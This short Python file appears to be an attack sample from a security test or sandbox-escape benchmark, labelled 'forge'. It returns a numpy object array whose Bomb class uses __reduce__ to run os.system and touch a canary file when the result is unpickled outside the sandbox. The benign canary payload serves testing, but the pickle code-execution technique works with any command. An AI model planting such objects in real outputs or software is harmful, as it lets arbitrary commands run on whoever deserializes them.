# class: forge
# success: an object array is unpickled outside
import numpy as np

class Bomb:
    def __reduce__(self):
        return (__import__("os").system, ("touch {{canary}}/owned",))

def solve(x):
    return np.array([Bomb()], dtype=object)
